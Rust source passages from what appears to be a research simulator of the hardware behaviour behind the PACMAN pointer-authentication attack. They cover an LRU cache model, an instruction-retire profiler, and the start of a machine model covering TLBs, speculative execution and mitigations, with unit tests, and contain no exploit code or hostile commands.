        assert!(ways > 0 && sets.is_power_of_two(), "need ways>0 and power-of-two sets");
        Self { ways, set_mask: sets - 1, lines: vec![0; ways * sets], occ: vec![0; sets] }
    }

    pub(crate) fn set_index(&self, key: u64) -> usize {
        (key as usize) & self.set_mask
    }

    /// Looks up `key`; on hit, promotes it to MRU and returns true.
    #[inline]
    pub(crate) fn touch(&mut self, key: u64) -> bool {
        let set = self.set_index(key);
        let base = set * self.ways;
        let n = self.occ[set] as usize;
        let live = &mut self.lines[base..base + n];
        // Re-touching the MRU way is the overwhelmingly common case
        // (sequential fetches share a line); it needs no promotion.
        if live.first() == Some(&key) {
            return true;
        }
        match live.iter().position(|&t| t == key) {
            Some(pos) => {
                live.copy_within(..pos, 1);
                live[0] = key;
                true
            }
            None => false,
        }
    }

    /// Checks for presence without perturbing LRU state.
    pub(crate) fn probe(&self, key: u64) -> bool {
        let set = self.set_index(key);
        let base = set * self.ways;
        self.lines[base..base + self.occ[set] as usize].contains(&key)
    }

    /// Inserts `key` as MRU; returns the evicted LRU victim if the set was
    /// full. Inserting a present key just promotes it.
    pub(crate) fn insert(&mut self, key: u64) -> Option<u64> {
        let set = self.set_index(key);
        let base = set * self.ways;
        let n = self.occ[set] as usize;
        let ways = &mut self.lines[base..base + self.ways];
        if let Some(pos) = ways[..n].iter().position(|&t| t == key) {
            ways[..=pos].rotate_right(1);
            return None;
        }
        if n == ways.len() {
            let victim = ways[n - 1];
            ways.rotate_right(1);
            ways[0] = key;
            Some(victim)
        } else {
            ways[..=n].rotate_right(1);
            ways[0] = key;
            self.occ[set] += 1;
            None
        }
    }

    pub(crate) fn flush(&mut self) {
        // Dead tags beyond the live prefix are never read; clearing the
        // occupancy counters is the whole invalidate.
        self.occ.fill(0);
    }

    /// Serialises only the live prefix of every set (dead slots are
    /// never read, so they carry no state worth snapshotting).
    pub(crate) fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        w.usize(self.occ.len());
        for (set, &n) in self.occ.iter().enumerate() {
            let base = set * self.ways;
            w.u16(n);
            for &tag in &self.lines[base..base + n as usize] {
                w.u64(tag);
            }
        }
    }

    /// Restores state written by [`SetAssoc::save_state`] into a
    /// structure of identical geometry.
    pub(crate) fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        use pacman_telemetry::bin::BinError;
        let sets = r.usize()?;
        if sets != self.occ.len() {
            return Err(BinError::Corrupt(format!("set count {sets} != {}", self.occ.len())));
        }
        for set in 0..sets {
            let n = r.u16()?;
            if n as usize > self.ways {
                return Err(BinError::Corrupt(format!("occupancy {n} > {} ways", self.ways)));
            }
            let base = set * self.ways;
            for way in 0..n as usize {
                self.lines[base + way] = r.u64()?;
            }
            self.occ[set] = n;
        }
        Ok(())
    }
}

/// Always-on hit/miss/fill/eviction counters for one cache level (plain
/// `u64` adds; exported into a telemetry registry at snapshot time).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug, Default)]
pub struct CacheStats {
    /// Lookups that found the line.
    pub hits: u64,
    /// Lookups that missed (and triggered a fill).
    pub misses: u64,
    /// Lines installed.
    pub fills: u64,
    /// Lines evicted by a fill into a full set.
    pub evictions: u64,
}

/// A physically-indexed cache level.
#[derive(Clone, Debug)]
pub struct Cache {
    params: CacheParams,
    inner: SetAssoc,
    line_shift: u32,
    /// Access counters (public for experiment reporting).
    pub stats: CacheStats,
}

/// Outcome of a cache lookup.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum CacheOutcome {
    /// Line present.
    Hit,
    /// Line absent; it has now been filled.
    Miss,
}

impl Cache {
    /// Creates a cache with the given geometry, optionally overriding the
    /// *effective* associativity used by the replacement logic (paper
    /// footnote 5: the M1 L1D behaves as if it had half its reported
    /// ways).
    pub fn new(params: CacheParams, effective_ways: Option<usize>) -> Self {
        let ways = effective_ways.unwrap_or(params.ways);
        let line_shift = params.line.trailing_zeros();
        Self {
            params,
            inner: SetAssoc::new(ways, params.sets),
            line_shift,
            stats: CacheStats::default(),
        }
    }

    /// The reported geometry (what the configuration registers expose).
    pub fn params(&self) -> CacheParams {
        self.params
    }

    fn line_key(&self, pa: u64) -> u64 {
        pa >> self.line_shift
    }

    /// The set a physical address maps to.
    pub fn set_of(&self, pa: u64) -> usize {
        self.inner.set_index(self.line_key(pa))
    }

    /// Accesses `pa`: returns hit/miss and fills the line on miss.
    pub fn access(&mut self, pa: u64) -> CacheOutcome {
        let key = self.line_key(pa);
        if self.inner.touch(key) {
            self.stats.hits += 1;
            CacheOutcome::Hit
        } else {
            self.stats.misses += 1;
            self.stats.fills += 1;
            if self.inner.insert(key).is_some() {
                self.stats.evictions += 1;
            }
            CacheOutcome::Miss
        }
    }

    /// Presence check without LRU update (for assertions in tests).
    pub fn contains(&self, pa: u64) -> bool {
        self.inner.probe(self.line_key(pa))
    }

    /// Empties the cache.
    pub fn flush(&mut self) {
        self.inner.flush();
    }

    /// Serialises resident lines (LRU order included) and counters.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        self.inner.save_state(w);
        w.u64(self.stats.hits);
        w.u64(self.stats.misses);
        w.u64(self.stats.fills);
        w.u64(self.stats.evictions);
    }

    /// Restores state written by [`Cache::save_state`] into a cache of
    /// identical geometry.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation, corruption,
    /// or a geometry mismatch.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        self.inner.restore_state(r)?;
        self.stats.hits = r.u64()?;
        self.stats.misses = r.u64()?;
        self.stats.fills = r.u64()?;
        self.stats.evictions = r.u64()?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> Cache {
        Cache::new(CacheParams { ways: 2, sets: 4, line: 64 }, None)
    }

    #[test]
    fn total_bytes() {
        assert_eq!(CacheParams { ways: 8, sets: 256, line: 64 }.total_bytes(), 128 * 1024);
    }

    #[test]
    fn hit_after_fill() {
        let mut c = small();
        assert_eq!(c.access(0x1000), CacheOutcome::Miss);
        assert_eq!(c.access(0x1000), CacheOutcome::Hit);
        assert_eq!(c.access(0x1008), CacheOutcome::Hit, "same line");
        assert_eq!(c.access(0x1040), CacheOutcome::Miss, "next line");
    }

    #[test]
    fn lru_eviction_within_a_set() {
        let mut c = small();
        // Three lines mapping to set 0 (line addresses multiples of 4*64).
        let a = 0u64;
        let b = 4 * 64;
        let d = 8 * 64;
        assert_eq!(c.set_of(a), c.set_of(b));
        assert_eq!(c.set_of(a), c.set_of(d));
        c.access(a);
        c.access(b);
        c.access(d); // evicts a (LRU)
        assert!(!c.contains(a));
        assert!(c.contains(b));
        assert!(c.contains(d));
    }

    #[test]
    fn touch_refreshes_lru_order() {
        let mut c = small();
        let (a, b, d) = (0u64, 4 * 64, 8 * 64);
        c.access(a);
        c.access(b);
        c.access(a); // a becomes MRU
        c.access(d); // evicts b
        assert!(c.contains(a));
        assert!(!c.contains(b));
    }

    #[test]
    fn effective_ways_shrink_associativity() {
        let mut c = Cache::new(CacheParams { ways: 8, sets: 4, line: 64 }, Some(2));
        assert_eq!(c.params().ways, 8, "reported geometry unchanged");
        let stride = 4 * 64;
        c.access(0);
        c.access(stride);
        c.access(2 * stride);
        assert!(!c.contains(0), "third fill must evict with effective 2 ways");
    }

    #[test]
    fn stats_count_every_outcome() {
        let mut c = small();
        let (a, b, d) = (0u64, 4 * 64, 8 * 64);
        c.access(a); // miss + fill
        c.access(a); // hit
        c.access(b); // miss + fill
        c.access(d); // miss + fill + eviction of a
        assert_eq!(c.stats, CacheStats { hits: 1, misses: 3, fills: 3, evictions: 1 });
    }

    #[test]
    fn flush_empties() {
        let mut c = small();
        c.access(0x40);
        c.flush();
        assert!(!c.contains(0x40));
    }

    #[test]
    fn save_restore_preserves_lru_order_and_stats() {
        let mut c = small();
        let (a, b, d) = (0u64, 4 * 64, 8 * 64);
        c.access(a);
        c.access(b);
        c.access(a); // a is MRU, b is LRU
        let mut w = pacman_telemetry::bin::Writer::new();
        c.save_state(&mut w);
        let bytes = w.into_bytes();
        let mut fresh = small();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        fresh.restore_state(&mut r).unwrap();
        assert!(r.is_done());
        assert_eq!(fresh.stats, c.stats);
        fresh.access(d); // must evict b, the restored LRU
        assert!(fresh.contains(a));
        assert!(!fresh.contains(b));
        // Truncation at any point is an error, not a panic.
        let mut short = small();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes[..bytes.len() - 1]);
        assert!(short.restore_state(&mut r).is_err());
    }

    #[test]
    fn probe_does_not_perturb_lru() {
        let mut c = small();
        let (a, b, d) = (0u64, 4 * 64, 8 * 64);
        c.access(a);
        c.access(b);
        assert!(c.contains(a)); // probe a; must NOT make it MRU
        c.access(d); // should evict a (still LRU)
        assert!(!c.contains(a));
    }
}
