//! The retire-loop self-profiler: per-opcode retire counts, a
//! hot-basic-block histogram, and phase attribution of simulated-cycle
//! and wall-clock cost.
//!
//! The ROADMAP's throughput rewrite needs to know *where* a retired
//! instruction's time goes before any restructuring can be justified.
//! This module answers that with four phase buckets:
//!
//! - [`Phase::Decode`] — fetch (iTLB + L1I) plus instruction decode;
//! - [`Phase::Dispatch`] — execution of ALU, branch, and system
//!   instructions;
//! - [`Phase::Memory`] — execution of loads/stores (the dTLB + cache
//!   model dominates here);
//! - [`Phase::Qarma`] — execution of the PA instructions, whose cost is
//!   the QARMA-64 datapath.
//!
//! Cost discipline: the profiler is owned by the [`Machine`] and every
//! hot-path hook branches on [`Profiler::is_enabled`] first, so a
//! disabled profiler costs one predicted branch per retired instruction
//! and takes no timestamps. When enabled, it reads `Instant::now()`
//! twice per instruction (fetch/decode boundary and retire) — the
//! `perf_trace` bench artifact bounds the disabled overhead.
//!
//! Basic blocks are keyed by their entry PC: a new block begins
//! whenever the previous instruction's architectural successor differs
//! from the PC actually retired (i.e. after any taken control transfer,
//! including traps into the kernel vector).
//!
//! [`Machine`]: crate::machine::Machine

use pacman_isa::Inst;
use pacman_telemetry::Registry;
use std::collections::BTreeMap;
use std::time::Instant;

/// Pipeline phase the profiler attributes cost to.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum Phase {
    /// Instruction fetch (iTLB + L1I) and decode.
    Decode,
    /// ALU / branch / system instruction execution.
    Dispatch,
    /// Load/store execution through the memory model.
    Memory,
    /// Pointer-authentication execution (QARMA-64 datapath).
    Qarma,
}

/// Every phase, in export order.
pub const PHASES: [Phase; 4] = [Phase::Decode, Phase::Dispatch, Phase::Memory, Phase::Qarma];

impl Phase {
    /// Canonical lower-case name used in `profile.phase.*` series.
    pub fn name(self) -> &'static str {
        match self {
            Phase::Decode => "decode",
            Phase::Dispatch => "dispatch",
            Phase::Memory => "memory",
            Phase::Qarma => "qarma",
        }
    }
}

/// The mnemonic an instruction retires under (one per `Inst` variant).
pub fn mnemonic(inst: &Inst) -> &'static str {
    match inst {
        Inst::Nop => "nop",
        Inst::Isb => "isb",
        Inst::Dsb => "dsb",
        Inst::Hlt => "hlt",
        Inst::Eret => "eret",
        Inst::Svc { .. } => "svc",
        Inst::MovZ { .. } => "movz",
        Inst::MovK { .. } => "movk",
        Inst::MovN { .. } => "movn",
        Inst::MovReg { .. } => "mov",
        Inst::Csel { .. } => "csel",
        Inst::AddImm { .. } => "add_imm",
        Inst::SubImm { .. } => "sub_imm",
        Inst::AddReg { .. } => "add",
        Inst::SubReg { .. } => "sub",
        Inst::AndReg { .. } => "and",
        Inst::OrrReg { .. } => "orr",
        Inst::EorReg { .. } => "eor",
        Inst::LslImm { .. } => "lsl",
        Inst::LsrImm { .. } => "lsr",
        Inst::Mul { .. } => "mul",
        Inst::CmpImm { .. } => "cmp_imm",
        Inst::CmpReg { .. } => "cmp",
        Inst::Ldr { .. } => "ldr",
        Inst::Str { .. } => "str",
        Inst::Ldrb { .. } => "ldrb",
        Inst::Strb { .. } => "strb",
        Inst::Ldp { .. } => "ldp",
        Inst::Stp { .. } => "stp",
        Inst::B { .. } => "b",
        Inst::Bl { .. } => "bl",
        Inst::BCond { .. } => "b_cond",
        Inst::Cbz { .. } => "cbz",
        Inst::Cbnz { .. } => "cbnz",
        Inst::Tbz { .. } => "tbz",
        Inst::Tbnz { .. } => "tbnz",
        Inst::Br { .. } => "br",
        Inst::Blr { .. } => "blr",
        Inst::Ret => "ret",
        Inst::Pac { .. } => "pac",
        Inst::Aut { .. } => "aut",
        Inst::Xpac { .. } => "xpac",
        Inst::Pacga { .. } => "pacga",
        Inst::Mrs { .. } => "mrs",
        Inst::Msr { .. } => "msr",
    }
}

/// The execution phase an instruction's retire cost is attributed to
/// (its fetch/decode cost always lands in [`Phase::Decode`]).
pub fn phase_of(inst: &Inst) -> Phase {
    match inst {
        Inst::Ldr { .. }
        | Inst::Str { .. }
        | Inst::Ldrb { .. }
        | Inst::Strb { .. }
        | Inst::Ldp { .. }
        | Inst::Stp { .. } => Phase::Memory,
        Inst::Pac { .. } | Inst::Aut { .. } | Inst::Xpac { .. } | Inst::Pacga { .. } => {
            Phase::Qarma
        }
        _ => Phase::Dispatch,
    }
}

/// Accumulated cost of one opcode.
#[derive(Copy, Clone, Debug, Default, Eq, PartialEq)]
pub struct OpcodeCost {
    /// Instructions retired under this mnemonic.
    pub retired: u64,
    /// Simulated cycles spent executing them (excluding fetch/decode).
    pub cycles: u64,
}

/// Accumulated cost of one basic block, keyed by entry PC.
#[derive(Copy, Clone, Debug, Default, Eq, PartialEq)]
pub struct BlockCost {
    /// Times control entered the block.
    pub entries: u64,
    /// Instructions retired inside it.
    pub insts: u64,
    /// Simulated cycles retired inside it (fetch/decode + execute).
    pub cycles: u64,
}

/// Accumulated cost of one [`Phase`].
#[derive(Copy, Clone, Debug, Default, Eq, PartialEq)]
pub struct PhaseCost {
    /// Hook invocations attributed to the phase.
    pub events: u64,
    /// Simulated cycles.
    pub cycles: u64,
    /// Host wall-clock nanoseconds.
    pub wall_ns: u64,
}

/// The per-machine profiler state. See the [module docs](self) for the
/// attribution model and cost discipline.
#[derive(Clone, Debug, Default)]
pub struct Profiler {
    enabled: bool,
    opcodes: BTreeMap<&'static str, OpcodeCost>,
    blocks: BTreeMap<u64, BlockCost>,
    phases: [PhaseCost; 4],
    /// Fall-through successor (`pc + 4`) of the previous retired
    /// instruction; a retire at any other PC — i.e. after any taken
    /// control transfer — opens a new basic block.
    expected_pc: Option<u64>,
    /// Entry PC of the block currently executing.
    current_block: u64,
}

impl Profiler {
    /// A profiler; enabled per `MachineConfig::profile`.
    pub fn new(enabled: bool) -> Self {
        Self { enabled, ..Self::default() }
    }

    /// Whether the hot-path hooks record (the branch the retire loop
    /// takes once per instruction).
    #[inline]
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Turns recording on or off; accumulated data is kept.
    pub fn set_enabled(&mut self, enabled: bool) {
        self.enabled = enabled;
    }

    /// Records the fetch+decode cost of one instruction.
    pub fn record_decode(&mut self, cycles: u64, wall_ns: u64) {
        let p = &mut self.phases[0];
        p.events += 1;
        p.cycles += cycles;
        p.wall_ns = p.wall_ns.saturating_add(wall_ns);
    }

    /// Records one retired instruction: its mnemonic, execution phase,
    /// the PC it retired at, the cycles the whole step consumed
    /// (`step_cycles`, for block attribution) and the cycles/wall-time
    /// of execution alone.
    pub fn record_retire(
        &mut self,
        inst: &Inst,
        pc: u64,
        step_cycles: u64,
        exec_cycles: u64,
        exec_wall_ns: u64,
    ) {
        let op = self.opcodes.entry(mnemonic(inst)).or_default();
        op.retired += 1;
        op.cycles += exec_cycles;

        let phase = &mut self.phases[match phase_of(inst) {
            Phase::Decode => 0,
            Phase::Dispatch => 1,
            Phase::Memory => 2,
            Phase::Qarma => 3,
        }];
        phase.events += 1;
        phase.cycles += exec_cycles;
        phase.wall_ns = phase.wall_ns.saturating_add(exec_wall_ns);

        if self.expected_pc != Some(pc) {
            self.current_block = pc;
            self.blocks.entry(pc).or_default().entries += 1;
        }
        let block = self.blocks.entry(self.current_block).or_default();
        block.insts += 1;
        block.cycles += step_cycles;
        self.expected_pc = Some(pc + 4);
    }

    /// Per-opcode costs, keyed by mnemonic.
    pub fn opcodes(&self) -> &BTreeMap<&'static str, OpcodeCost> {
        &self.opcodes
    }

    /// Per-block costs, keyed by entry PC.
    pub fn blocks(&self) -> &BTreeMap<u64, BlockCost> {
        &self.blocks
    }

    /// Accumulated cost of `phase`.
    pub fn phase(&self, phase: Phase) -> PhaseCost {
        self.phases[PHASES.iter().position(|&p| p == phase).expect("phase in table")]
    }

    /// True when nothing has been recorded.
    pub fn is_empty(&self) -> bool {
        self.opcodes.is_empty() && self.phases.iter().all(|p| p.events == 0)
    }

    /// Exports everything as `profile.*` counters. Counter-only on
    /// purpose: counters merge commutatively across shard registries,
    /// so sharded profiles aggregate exactly. Same lifetime-total
    /// caveat as `Machine::export_telemetry` — export once per run.
    pub fn export_into(&self, reg: &mut Registry) {
        if !reg.is_enabled() || self.is_empty() {
            return;
        }
        for (mnem, c) in &self.opcodes {
            reg.incr_by(&format!("profile.opcode.{mnem}.retired"), c.retired);
            reg.incr_by(&format!("profile.opcode.{mnem}.cycles"), c.cycles);
        }
        for (phase, cost) in PHASES.iter().zip(self.phases.iter()) {
            let name = phase.name();
            reg.incr_by(&format!("profile.phase.{name}.events"), cost.events);
            reg.incr_by(&format!("profile.phase.{name}.cycles"), cost.cycles);
            reg.incr_by(&format!("profile.phase.{name}.wall_ns"), cost.wall_ns);
        }
        for (pc, b) in &self.blocks {
            reg.incr_by(&format!("profile.block.{pc:#x}.entries"), b.entries);
            reg.incr_by(&format!("profile.block.{pc:#x}.insts"), b.insts);
            reg.incr_by(&format!("profile.block.{pc:#x}.cycles"), b.cycles);
        }
    }
}

/// A wall-clock sample for the retire-loop hooks: zero-cost when the
/// profiler is off (no `Instant` read happens).
#[derive(Copy, Clone, Debug)]
pub(crate) struct ProfTimer(Option<Instant>);

impl ProfTimer {
    /// Samples the clock only when `enabled`.
    pub(crate) fn start(enabled: bool) -> Self {
        Self(if enabled { Some(Instant::now()) } else { None })
    }

    /// Nanoseconds since [`start`](Self::start), 0 when disabled.
    pub(crate) fn elapsed_ns(self) -> u64 {
        self.0.map_or(0, |t| u64::try_from(t.elapsed().as_nanos()).unwrap_or(u64::MAX))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pacman_isa::Reg;

    fn add() -> Inst {
        Inst::AddImm { rd: Reg::X0, rn: Reg::X0, imm: 1 }
    }

    #[test]
    fn phases_and_mnemonics_classify() {
        assert_eq!(phase_of(&add()), Phase::Dispatch);
        assert_eq!(phase_of(&Inst::Ldr { rt: Reg::X0, rn: Reg::X1, offset: 0 }), Phase::Memory);
        assert_eq!(mnemonic(&Inst::Ret), "ret");
        assert_eq!(Phase::Qarma.name(), "qarma");
    }

    #[test]
    fn disabled_profiler_records_through_explicit_calls_only() {
        // The enabled flag gates the *machine's* hooks, not the struct:
        // the struct itself always records, so scoped enable/disable at
        // the machine level composes.
        let mut p = Profiler::new(false);
        assert!(!p.is_enabled());
        assert!(p.is_empty());
        p.set_enabled(true);
        assert!(p.is_enabled());
    }

    #[test]
    fn straight_line_code_is_one_block() {
        let mut p = Profiler::new(true);
        p.record_decode(3, 10);
        for i in 0..4u64 {
            let pc = 0x1000 + 4 * i;
            p.record_retire(&add(), pc, 2, 1, 5);
        }
        assert_eq!(p.blocks().len(), 1);
        let b = p.blocks()[&0x1000];
        assert_eq!((b.entries, b.insts, b.cycles), (1, 4, 8));
        assert_eq!(p.opcodes()["add_imm"].retired, 4);
        assert_eq!(p.phase(Phase::Dispatch).events, 4);
        assert_eq!(p.phase(Phase::Decode).cycles, 3);
    }

    #[test]
    fn control_transfers_open_new_blocks() {
        let mut p = Profiler::new(true);
        // 0x1000 falls through to 0x1004; 0x1004 branches to 0x2000;
        // 0x2000 branches back to 0x1000 (loop entry counted again).
        p.record_retire(&add(), 0x1000, 1, 1, 0);
        p.record_retire(&Inst::B { offset: 0 }, 0x1004, 1, 1, 0);
        p.record_retire(&Inst::B { offset: 0 }, 0x2000, 1, 1, 0);
        p.record_retire(&add(), 0x1000, 1, 1, 0);
        assert_eq!(p.blocks().len(), 2);
        assert_eq!(p.blocks()[&0x1000].entries, 2);
        assert_eq!(p.blocks()[&0x2000].entries, 1);
        assert_eq!(p.blocks()[&0x1000].insts, 3);
    }

    #[test]
    fn export_writes_profile_counters() {
        let mut p = Profiler::new(true);
        p.record_decode(2, 7);
        p.record_retire(&add(), 0x4000, 3, 1, 9);
        let mut reg = Registry::new();
        p.export_into(&mut reg);
        assert_eq!(reg.counter_value("profile.opcode.add_imm.retired"), 1);
        assert_eq!(reg.counter_value("profile.phase.decode.cycles"), 2);
        assert_eq!(reg.counter_value("profile.phase.dispatch.wall_ns"), 9);
        assert_eq!(reg.counter_value("profile.block.0x4000.cycles"), 3);

        // An empty profiler exports nothing at all.
        let mut empty = Registry::new();
        Profiler::new(true).export_into(&mut empty);
        assert!(empty.is_empty());
    }

    #[test]
    fn timer_is_inert_when_disabled() {
        assert_eq!(ProfTimer::start(false).elapsed_ns(), 0);
    }
}
