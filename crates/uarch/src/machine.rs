//! The machine: memory system + speculative core + timers.
//!
//! [`Machine`] executes programs written in `pacman_isa` with an explicit
//! model of the microarchitectural behaviour the PACMAN attack depends on:
//!
//! - every architectural and speculative memory access goes through the
//!   caches and the Figure 6 TLB hierarchy;
//! - conditional-branch mispredictions open a *speculation shadow* in
//!   which up to `speculation_window` wrong-path instructions execute
//!   against microarchitectural state only, with faults suppressed at the
//!   squash (Figure 3(c));
//! - indirect branches inside the shadow first fetch their BTB-predicted
//!   target, then — under [`SquashPolicy::Eager`] — are eagerly squashed
//!   and redirected to the resolved target (Figure 3(d));
//! - the §9 mitigations hook into exactly these paths.

use std::collections::HashMap;

use pacman_isa::ptr::{self, AuthResult, VirtualAddress, PAGE_SIZE, VA_BITS};
use pacman_isa::{decode, encode, Inst, PacKey, PacModifier, Reg, SysReg};
use pacman_qarma::{PacComputer, QarmaKey};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::block_cache::BlockCache;
use crate::cache::{Cache, CacheOutcome};
use crate::config::{ConfigError, ExecEngine, MachineConfig, Mitigation, SquashPolicy};
use crate::cpu::{AccessKind, Cpu, El, SavedContext, Trap};
use crate::fasthash::FxBuild;
use crate::mem::{FramePool, PhysMemory};
use crate::paging::{PageTables, Perms};
use crate::predict::{Bimodal, Btb, PredictStats, Rsb};
use crate::profiler::{ProfTimer, Profiler};
use crate::timer::{Timers, TimingSource};
use crate::tlb::{DataLookup, FetchLookup, FetchWorld, TlbHierarchy};
use crate::trace::{SpecEvent, SpecTrace};
use pacman_telemetry::{Histogram, Registry};

/// Size bound on the PAC memo; reaching it clears the table (entries are
/// recomputable on demand, so a flush only costs warm-up).
const PAC_MEMO_CAP: usize = 1 << 20;

/// Where a translation was satisfied.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum TlbHit {
    /// L1 TLB hit (dTLB for data, the private iTLB for fetches).
    L1,
    /// L2 TLB hit.
    L2,
    /// Full page-table walk.
    Walk,
}

/// Where a cache access was satisfied.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum CacheHit {
    /// L1 hit.
    L1,
    /// L2 hit.
    L2,
    /// DRAM.
    Memory,
}

/// Timing-relevant outcome of one memory access.
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub struct AccessOutcome {
    /// Cycles consumed by the access itself (without measurement
    /// overhead).
    pub cycles: u64,
    /// TLB level that satisfied the translation.
    pub tlb: TlbHit,
    /// Cache level that satisfied the data.
    pub cache: CacheHit,
}

#[derive(Copy, Clone, Eq, PartialEq, Debug)]
enum MemFault {
    NonCanonical,
    Unmapped,
    Perm,
}

impl MemFault {
    fn into_trap(self, va: u64, el: El, access: AccessKind) -> Trap {
        match self {
            MemFault::NonCanonical | MemFault::Unmapped => {
                Trap::TranslationFault { va, el, access }
            }
            MemFault::Perm => Trap::PermissionFault { va, el, access },
        }
    }
}

#[derive(Copy, Clone, Eq, PartialEq, Debug)]
enum SpecAccess {
    Ok(AccessOutcome, u64),
    /// Would fault: suppressed, ends the shadow.
    Fault,
    /// Blocked by an invisible-speculation mitigation: no side effects.
    Blocked,
}

/// The memory system: physical memory, page tables, caches, TLBs.
#[derive(Debug)]
pub struct MemorySystem {
    /// Physical memory.
    pub phys: PhysMemory,
    /// Translation tables.
    pub tables: PageTables,
    /// L1 instruction cache.
    pub l1i: Cache,
    /// L1 data cache.
    pub l1d: Cache,
    /// Unified L2 cache.
    pub l2c: Cache,
    /// The Figure 6 TLB hierarchy.
    pub tlbs: TlbHierarchy,
    latency: crate::config::LatencyModel,
}

impl MemorySystem {
    fn new_with_pool(config: &MachineConfig, pool: FramePool) -> Self {
        let caches = config.cache_params();
        let tlbs = config.tlb_params();
        let mut phys = PhysMemory::new_with_pool(pool);
        let tables = PageTables::new(&mut phys);
        Self {
            phys,
            tables,
            l1i: Cache::new(caches.l1i, None),
            l1d: Cache::new(caches.l1d, Some(caches.l1d_effective_ways)),
            l2c: Cache::new(caches.l2, None),
            tlbs: TlbHierarchy::new(tlbs.itlb, tlbs.dtlb, tlbs.l2),
            latency: config.latency,
        }
    }

    fn world(el: El) -> FetchWorld {
        match el {
            El::El0 => FetchWorld::User,
            El::El1 => FetchWorld::Kernel,
        }
    }

    fn check_perms(
        entry: &crate::tlb::TlbEntry,
        el: El,
        access: AccessKind,
    ) -> Result<(), MemFault> {
        let p = entry.perms;
        if el == El::El0 && !p.user {
            return Err(MemFault::Perm);
        }
        let allowed = match access {
            AccessKind::Load => p.read,
            AccessKind::Store => p.write,
            AccessKind::Fetch => p.execute,
        };
        if allowed {
            Ok(())
        } else {
            Err(MemFault::Perm)
        }
    }

    fn cache_data(&mut self, pa: u64) -> (CacheHit, u64) {
        match self.l1d.access(pa) {
            CacheOutcome::Hit => (CacheHit::L1, self.latency.l1_hit),
            CacheOutcome::Miss => match self.l2c.access(pa) {
                CacheOutcome::Hit => (CacheHit::L2, self.latency.l1_hit + self.latency.l2_hit),
                CacheOutcome::Miss => (
                    CacheHit::Memory,
                    self.latency.l1_hit + self.latency.l2_hit + self.latency.dram,
                ),
            },
        }
    }

    fn cache_fetch(&mut self, pa: u64) -> (CacheHit, u64) {
        match self.l1i.access(pa) {
            CacheOutcome::Hit => (CacheHit::L1, self.latency.l1_hit),
            CacheOutcome::Miss => match self.l2c.access(pa) {
                CacheOutcome::Hit => (CacheHit::L2, self.latency.l1_hit + self.latency.l2_hit),
                CacheOutcome::Miss => (
                    CacheHit::Memory,
                    self.latency.l1_hit + self.latency.l2_hit + self.latency.dram,
                ),
            },
        }
    }

    /// Architectural data access: translates, permission-checks, touches
    /// the caches, and returns the outcome plus physical address.
    fn data_access(
        &mut self,
        va: u64,
        el: El,
        access: AccessKind,
    ) -> Result<(AccessOutcome, u64), MemFault> {
        if !ptr::is_canonical(va) {
            return Err(MemFault::NonCanonical);
        }
        let v = VirtualAddress::new(va);
        let (entry, tlb, tlb_cycles) = match self.tlbs.lookup_data(v.vpn()) {
            DataLookup::DtlbHit(e) => (e, TlbHit::L1, 0),
            DataLookup::L2Hit(e) => (e, TlbHit::L2, self.latency.l2_tlb_hit),
            DataLookup::Miss => {
                let (e, _reads) =
                    self.tables.walk(&self.phys, v).map_err(|_| MemFault::Unmapped)?;
                self.tlbs.fill_data(e);
                (e, TlbHit::Walk, self.latency.walk)
            }
        };
        Self::check_perms(&entry, el, access)?;
        let pa = entry.pfn * PAGE_SIZE + v.page_offset();
        let (cache, cache_cycles) = self.cache_data(pa);
        Ok((AccessOutcome { cycles: tlb_cycles + cache_cycles, tlb, cache }, pa))
    }

    /// Architectural instruction fetch through the per-privilege iTLB.
    fn fetch_access(&mut self, va: u64, el: El) -> Result<(AccessOutcome, u64), MemFault> {
        if !ptr::is_canonical(va) {
            return Err(MemFault::NonCanonical);
        }
        let v = VirtualAddress::new(va);
        let world = Self::world(el);
        let (entry, tlb, tlb_cycles) = match self.tlbs.lookup_fetch(world, v.vpn()) {
            FetchLookup::ItlbHit(e) => (e, TlbHit::L1, 0),
            FetchLookup::L2Hit(e) => (e, TlbHit::L2, self.latency.l2_tlb_hit),
            FetchLookup::Miss => {
                let (e, _reads) =
                    self.tables.walk(&self.phys, v).map_err(|_| MemFault::Unmapped)?;
                self.tlbs.fill_fetch(world, e);
                (e, TlbHit::Walk, self.latency.walk)
            }
        };
        Self::check_perms(&entry, el, AccessKind::Fetch)?;
        let pa = entry.pfn * PAGE_SIZE + v.page_offset();
        let (cache, cache_cycles) = self.cache_fetch(pa);
        Ok((AccessOutcome { cycles: tlb_cycles + cache_cycles, tlb, cache }, pa))
    }

    /// Speculative data access. Faults are reported, not raised; under
    /// [`Mitigation::DelayOnMiss`] any L1 miss blocks the access without
    /// side effects.
    fn spec_data_access(
        &mut self,
        va: u64,
        el: El,
        access: AccessKind,
        mit: Mitigation,
    ) -> SpecAccess {
        if mit == Mitigation::DelayOnMiss {
            if !ptr::is_canonical(va) {
                return SpecAccess::Fault;
            }
            let v = VirtualAddress::new(va);
            if !self.tlbs.dtlb().contains(v.vpn()) {
                return SpecAccess::Blocked;
            }
            // dTLB hit: safe to proceed through the normal path (it will
            // hit), then check the cache probe-first.
            let entry = match self.tlbs.lookup_data(v.vpn()) {
                DataLookup::DtlbHit(e) => e,
                _ => unreachable!("probe said the dTLB holds this vpn"),
            };
            if Self::check_perms(&entry, el, access).is_err() {
                return SpecAccess::Fault;
            }
